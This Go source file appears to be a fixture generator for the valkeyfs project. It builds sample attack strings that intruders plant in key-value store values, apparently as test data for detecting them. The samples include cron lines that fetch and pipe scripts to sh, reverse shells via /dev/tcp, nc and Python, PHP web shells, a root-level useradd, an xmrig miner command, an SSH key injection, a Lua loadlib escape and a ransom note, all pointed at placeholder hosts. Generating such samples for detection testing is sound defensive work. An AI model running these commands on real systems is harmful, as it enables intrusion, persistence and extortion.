package generated

import (
	"encoding/json"

	"github.com/valkeyfs/valkeyfs/internal/fixtures"
)

// attacks are what intruders leave in values, by behaviour.
var attacks = map[string]func(m maker) string{
	"cron":          func(m maker) string { return "\n\n*/" + m.From("23456789", 1) + " * * * * " + fetch(m) + "\n\n" },
	"cron-user":     func(m maker) string { return "\n\n*/1 * * * * root " + fetch(m) + "\n\n" },
	"pipe-to-shell": fetch,
	"ssh-key": func(m maker) string {
		return "\n\n\nssh-rsa " + "AAAAB3NzaC1yc2EAAAADAQABAAABgQ" + m.From(fixtures.Alphanum, 341) + "= " + m.word() + "@" + m.word() + "\n\n\n"
	},
	"reverse-shell": func(m maker) string {
		return m.pick("bash -i >& /dev/tcp/"+address(m)+"/"+port(m)+" 0>&1", "nc -e /bin/sh "+address(m)+" "+port(m),
			"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\""+address(m)+"\","+port(m)+"));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'")
	},
	"web-shell": func(m maker) string {
		return m.pick("<?php @eval($_POST['"+m.word()+"']); ?>", "<?php system($_GET[\""+m.word()+"\"]);?>", "<?php $x=base64_decode($_REQUEST['"+m.word()+"']); eval($x);")
	},
	"useradd": func(m maker) string {
		return "\n*/2 * * * * root useradd -o -u 0 -g 0 -M -d /root -s /bin/bash " + m.word() + "\n"
	},
	"miner": func(m maker) string {
		return "./xmrig -o stratum+tcp://pool." + m.word() + ".example:3333 -u 4" + m.From(fixtures.Alphanum, 94) + " -p x"
	},
	"ransom": func(m maker) string {
		return "Your data has been encrypted and copied to our servers. Send 0.0" + m.From("123456789", 1) + " BTC to bc1q" + m.From("023456789acdefghjklmnpqrstuvwxyz", 38) + " within 48 hours and contact " + m.word() + "@onion.example to recover it."
	},
	"lua-escape": func(m maker) string {
		return "local f = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); local io = f(); local p = io.popen('" + m.word() + "', 'r'); return p:read('*a')"
	},
	"module": func(m maker) string {
		return "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00" + string(m.Bytes(200)) + "\x00RedisModule_OnLoad\x00system.exec\x00"
	},
}

func address(m maker) string {
	return m.pick("198.51.100.", "203.0.113.", "192.0.2.") + m.From("123456789", 1) + m.From(fixtures.Digits, 1)
}

func port(m maker) string { return m.From("123456789", 1) + m.From(fixtures.Digits, 3) }

func fetch(m maker) string {
	url := "http://" + address(m) + "/" + m.Hex(8) + "/" + m.word() + ".sh"
	file := m.word()
	return m.pick("curl -fsSL "+url+" | sh", "wget -q -O- "+url+"|bash", "cd1 -fsSL "+url+" | sh", "curl -s "+url+" -o /tmp/."+file+" && sh /tmp/."+file)
}

func jsonText(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}
